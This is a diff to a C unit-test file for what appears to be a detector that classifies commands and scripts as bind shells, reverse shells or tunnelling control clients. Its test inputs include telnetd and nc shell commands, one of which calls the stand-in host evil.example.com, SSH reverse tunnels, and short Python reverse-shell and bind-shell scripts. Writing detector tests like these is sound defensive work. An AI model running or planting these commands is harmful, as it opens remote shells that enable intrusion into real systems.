@@ -41,6 +41,10 @@ TEST(knows_shells_of_scripts)
 	check("telnetd -p 9999 -l /bin/sh", "bind shell");
 	check("X=$(telnetd -l /bin/sh)", "bind shell");
 	check("X=`telnetd -l /bin/sh`", "bind shell");
+	/* A host of that name is no example of a manual. */
+	check("nc evil.example.com 4444 -e /bin/sh", "reverse shell");
+	check("dbclient -y -N -f -R 7000:localhost:22 a@b.example", "control client");
+	check("echo 'Example: nc -l -p 9 -e /bin/sh'", "");
 	check("ssh -f -N -R 2222:localhost:22 tunnel@192.0.2.1", "control client");
 }
 
@@ -75,6 +79,9 @@ TEST(knows_scripts_of_other_languages)
 	CHECK_TEXT(kind("/usr/bin/x.py", "#!/usr/bin/python\nimport socket,os\ns=socket.socket()\ns.connect((h,1))\n"
 					 "os.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')\n"), "reverse shell");
 	inspected_done(&got);
+	CHECK_TEXT(kind("/usr/bin/z.py", "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.socket()\n"
+					 "s.bind((\"\",1))\ns.listen()\n"
+					 "c,a=s.accept()\nsubprocess.Popen([\"/bin/bash\"],stdin=c.fileno(),stdout=c.fileno())\n"), "bind shell");
 	CHECK_TEXT(kind("/usr/lib/python3/dist-packages/x.py", "#!/usr/bin/python\ns=socket.socket()\nos.dup2(1,2)\n'sh'\n"), "");
 	inspected_done(&got);
 	CHECK_TEXT(kind("/usr/bin/y.py", "#!/usr/bin/python\ns=socket.socket()\ns.connect((h,1))\nprint('ssh')\n"), "");
